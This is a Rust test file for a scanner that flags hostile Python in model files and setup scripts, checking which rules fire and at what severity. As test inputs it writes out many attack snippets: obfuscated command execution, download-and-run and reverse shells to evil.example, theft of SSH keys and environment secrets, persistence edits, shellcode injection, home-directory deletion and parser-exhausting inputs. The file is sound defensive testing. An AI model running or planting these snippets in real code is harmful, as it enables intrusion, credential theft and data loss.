//! What must be found and what must not, in the words of real payloads and real libraries.

use modelaudit_plugin::Severity;

use crate::{Mode, Reach, Role, Weight, analyse_setup, analyse_source};

/// Rule and severity of what a model's file does, worst first.
fn model(source: &str) -> Vec<(&'static str, Severity)> {
    judge(source, Role::Model)
}

fn judge(source: &str, role: Role) -> Vec<(&'static str, Severity)> {
    let report = analyse_source(source, role, Mode::Module).unwrap();
    assert_eq!(report.error, None, "{source}");
    let mut found: Vec<_> = report.evidence.iter().map(|e| (e.rule.id, e.severity(role))).collect();
    found.sort_by_key(|(_, severity)| std::cmp::Reverse(*severity));
    found
}

#[test]
fn payloads_at_import_are_critical() {
    for (rule, source) in [
        ("S101", "import os\nos.system('id')"),
        ("S101", "import os as o\no.system('id')"),
        ("S101", "from os import system as s\ns('id')"),
        ("S101", "from os import *\nsystem('id')"),
        ("S101", "__import__('os').system('id')"),
        ("S101", "import os\ngetattr(os, 'sy' + 'stem')('id')"),
        ("S101", "import os\ngetattr(os, 'metsys'[::-1])('id')"),
        ("S101", "import os\ngetattr(os, ''.join(['s','y','s','t','e','m']))('id')"),
        ("S101", "import os\ngetattr(os, ''.join(chr(c) for c in [115,121,115,116,101,109]))('id')"),
        ("S101", "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')"),
        ("S101", "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')"),
        ("S101", "import os\na = 'sys'\ngetattr(os, f'{a}tem')('id')"),
        ("S101", "import base64, importlib\nimportlib.import_module(base64.b64decode('b3M=').decode()).system('id')"),
        ("S101", "import sys\nsys.modules['os'].system('id')"),
        ("S101", "import os\nvars(os)['system']('id')"),
        ("S101", "import os\nos.__dict__['sys' + 'tem']('id')"),
        ("S101", "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')"),
        ("S101", "import os\nfor f in [os.system]:\n    f('id')"),
        ("S101", "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()"),
        ("S101", "import os\nclass A:\n    os.system('id')"),
        ("S101", "import os\ndef f(x=os.system('id')): pass"),
        ("S101", "import os\ndef g(c):\n    os.system(c)\ng('id')"),
        ("S101", "import os\nclass A:\n    def __init__(self, c):\n        os.system(c)\nA('id')"),
        ("S101", "import os\nf = lambda: 0\n(lambda c: os.system(c))('id')"),
        ("S103", "import subprocess\nsubprocess.run(['touch', '/tmp/x'])"),
        ("S103", "import subprocess\nsubprocess.Popen('id', shell=True)"),
        ("S103", "import subprocess\nsubprocess.run(['curl', 'http://evil.example/x', '|', 'sh'])"),
        ("S103", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import os; os.system('id')\"])"),
        ("S104", "exec('import os; os.system(\"id\")')"),
        ("S104", "eval(compile('__import__(\"os\").system(\"id\")', 'x', 'eval'))"),
        ("S104", "__builtins__['exec']('import os\\nos.system(1)')"),
        ("S116", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))"),
        ("S116", "exec(bytes.fromhex('696d706f7274206f73'))"),
        ("S116", "import zlib, sys\nexec(zlib.decompress(sys.stdin.buffer.read()))"),
        ("S116", "exec(''.join(chr(c ^ 1) for c in [104, 108, 113, 110, 115, 117, 33, 110, 114]))"),
        (
            "S116",
            "def d(s):\n    o = ''\n    for c in s:\n        o += chr(ord(c) ^ 1)\n    return o\nexec(d('hlqnsu!nr'))",
        ),
        ("S116", "import pickle, base64\npickle.loads(base64.b64decode('gASVBQAAAAAAAACMAWGULg=='))"),
        ("S116", "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAA=')))"),
        ("S117", "import requests\nexec(requests.get('https://evil.example/x.py').text)"),
        (
            "S117",
            "from urllib.request import urlopen\nwith urlopen('https://evil.example/x') as r:\n    exec(r.read())",
        ),
        (
            "S117",
            "import urllib.request, os\nurllib.request.urlretrieve('http://evil.example/x', '/tmp/x')\nos.system('chmod +x /tmp/x; /tmp/x')",
        ),
        (
            "S117",
            "import requests, subprocess\nr = requests.get('http://evil.example/x')\nwith open('/tmp/x', 'wb') as f:\n    f.write(r.content)\nsubprocess.run(['/tmp/x'])",
        ),
        (
            "S301",
            "import socket,subprocess,os\ns=socket.socket()\ns.connect(('evil.example',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
        ),
        ("S301", "import socket, pty\ns = socket.socket()\ns.connect(('evil.example', 4444))\npty.spawn('/bin/bash')"),
        ("S118", "open('/home/u/.ssh/authorized_keys', 'a').write('ssh-rsa AAAA')"),
        ("S118", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')"),
        ("S118", "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')"),
        ("S310", "import os, requests\nrequests.post('https://evil.example', json=dict(os.environ))"),
        (
            "S310",
            "import requests\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.example', data={'k': k})",
        ),
        ("S115", "().__class__.__base__.__subclasses__()"),
        (
            "S110",
            "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 9, 12288, 64)\nctypes.windll.kernel32.RtlMoveMemory(p, b'x', 1)\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)",
        ),
        ("S403", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))"),
    ] {
        let found = model(source);
        assert_eq!(found.first(), Some(&(rule, Severity::Critical)), "{source}\n{found:?}");
    }
}

#[test]
fn what_only_stands_in_a_function_is_less() {
    let deferred =
        |body: &str| judge(&format!("import os, subprocess, requests, base64\ndef run(x):\n    {body}\n"), Role::Plain);
    for body in
        ["os.system('curl http://evil.example/x | sh')", "exec(base64.b64decode(x))", "exec(requests.get(x).text)"]
    {
        assert_eq!(deferred(body).first().map(|f| f.1), Some(Severity::Warning), "{body}");
    }
    for body in [
        "os.system(x)",
        "subprocess.run(['git', 'describe'])",
        "subprocess.check_output(x)",
        "exec(x)",
        "eval(x)",
        "requests.get(x)",
        "exec(open('version.py').read())",
    ] {
        assert_eq!(deferred(body).first().map(|f| f.1), Some(Severity::Info), "{body}");
    }
    // Methods that a loader calls are as good as the import.
    let handler = "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('id')\n";
    assert_eq!(model(handler), [("S101", Severity::Critical)]);
    assert_eq!(judge(handler, Role::Plain), [("S101", Severity::Info)]);
    // ... and so is what they call.
    let helper = "import os\ndef _x(c):\n    os.system(c)\nclass M:\n    def forward(self, x):\n        _x('id')\n";
    assert_eq!(model(helper), [("S101", Severity::Critical)]);
    let main = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
    assert_eq!(judge(main, Role::Plain), [("S101", Severity::Info)]);
    let setup = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': I})\n";
    let report = analyse_setup(setup).unwrap();
    assert_eq!(report.evidence[0].severity(Role::Model), Severity::Critical);
}

#[test]
fn ordinary_code_is_silent() {
    for source in [
        "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\nmodel = torch.compile(model)\n",
        "import re\nX = re.compile('exec(')\n",
        "'''exec(base64.b64decode(x)); os.system('curl x | sh')'''\n# os.system('id')\n",
        "import os, json\nwith open(os.path.join('a', 'vocab.json'), 'w', encoding='utf-8') as f:\n    f.write(json.dumps({}))\n",
        "def eval(x):\n    return x\neval('1')\n",
        "import pandas as pd\npd.DataFrame().eval('a + b')\n",
        "import os\nos.makedirs('x', exist_ok=True)\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\n",
        "import sys\nsys.path.append('.')\nsys.modules[__name__] = object()\n",
        "import base64, hashlib\nx = base64.b64decode('AAAA')\nh = hashlib.sha256(x).hexdigest()\n",
        "import torch\nx = torch.load('a.bin', weights_only=True)\n",
        "class A:\n    def system(self, c): pass\nos = A()\nos.system('id')\n",
        "from .os import system\nsystem('id')\n",
    ] {
        assert_eq!(model(source), [], "{source}");
    }
}

#[test]
fn ordinary_acts_are_facts() {
    for source in [
        "import subprocess\nv = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
        "import os\nos.system('pip install -q transformers')\n",
        "import requests\nr = requests.get('https://example.org/data.json')\nd = r.json()\n",
        "exec(open('src/version.py').read())\n",
        "import ctypes\nlib = ctypes.CDLL('libm.so.6')\n",
        "import pickle\nd = pickle.load(open('a.pkl', 'rb'))\n",
        "import torch\nx = torch.load('a.bin', weights_only=False)\n",
        "from transformers import AutoModel\nm = AutoModel.from_pretrained('a/b', trust_remote_code=True)\n",
        "import socket\ns = socket.socket()\ns.connect(('8.8.8.8', 80))\n",
        "import subprocess, os\nsubprocess.Popen(['make'], env=dict(os.environ))\n",
    ] {
        let found = model(source);
        assert!(!found.is_empty() && found.iter().all(|f| f.1 == Severity::Info), "{source}\n{found:?}");
    }
}

#[test]
fn branches_do_not_hide_a_value() {
    let source = "import os\nc = 'curl http://evil.example/x | sh'\nif False:\n    c = 'ls'\nos.system(c)\n";
    assert_eq!(model(source), [("S101", Severity::Critical)]);
    let source = "import os\ntry:\n    f = os.system\nexcept Exception:\n    f = print\nf('id')\n";
    assert_eq!(model(source), [("S101", Severity::Critical)]);
}

#[test]
fn closures_and_objects_are_followed() {
    let source = "def outer():\n    import subprocess\n    def inner():\n        subprocess.run('curl http://evil.example/x | sh', shell=True)\n    return inner\n";
    assert_eq!(judge(source, Role::Plain), [("S103", Severity::Warning)]);
    let source = "import os\nclass A:\n    def __init__(self):\n        self.f = os.system\n    def go(self):\n        self.f('id')\na = A()\na.go()\n";
    assert_eq!(model(source), [("S101", Severity::Critical)]);
}

#[test]
fn hostile_sources_end() {
    let bombs = [
        "a = 'x'\n".to_owned() + &"a = a + a\n".repeat(2000),
        "a = 'x' * 1000000\n".to_owned() + &"b = a + 'y'\n".repeat(5000),
        "for a in range(4096):\n for b in range(4096):\n  for c in range(4096):\n   exec('1')\n".to_owned(),
        "def f():\n    f()\n    f()\n    g()\ndef g():\n    f()\n    g()\nf()\n".to_owned(),
        "exec(".repeat(150) + "'1'" + &")".repeat(150),
        "x = [c for c in range(8000)]\n".repeat(500),
        (0..200).map(|n| format!("def f{n}():\n    f{}()\n    f{}()\n", n + 1, n + 2)).collect::<String>() + "f0()\n",
        "x = {}\n".to_owned() + &"x = x[x]\n".repeat(5000),
        "x = ".to_owned() + &"'a' + ".repeat(2900) + "'b'\n",
    ];
    for bomb in &bombs {
        let report = analyse_source(bomb, Role::Model, Mode::Module).unwrap();
        assert!(report.evidence.iter().all(|e| e.weight < Weight::Attack && e.reach >= Reach::Later));
    }
    assert!(analyse_source(&"(".repeat(100_000), Role::Plain, Mode::Module).is_err());
    for broken in
        ["def f(:\n", "x = (\n", "\u{feff}\u{feff}", "f'{f'{f'{", "\\", "'''", "if x:\nimport os\n", "\t\n  \n x"]
    {
        let _ = analyse_source(broken, Role::Plain, Mode::Module);
    }
}

#[test]
fn towers_of_calls_are_not_followed_for_ever() {
    let (open, close) = ("[".repeat(190), "]".repeat(190));
    let functions: String =
        (0..6).map(|n| format!("def f{n}():\n    x = {open}f{}(){close}\n", n + 1)).collect::<String>() + "f0()\n";
    // Frames of a debug build are several times those of the sandbox.
    let walk = std::thread::Builder::new().stack_size(64 << 20);
    let report = walk.spawn(move || analyse_source(&functions, Role::Plain, Mode::Module).unwrap()).unwrap();
    assert!(report.join().unwrap().too_deep);
    assert!(
        !analyse_source("def f():\n    return g()\ndef g():\n    return [[1]]\nf()\n", Role::Plain, Mode::Module)
            .unwrap()
            .too_deep
    );
}
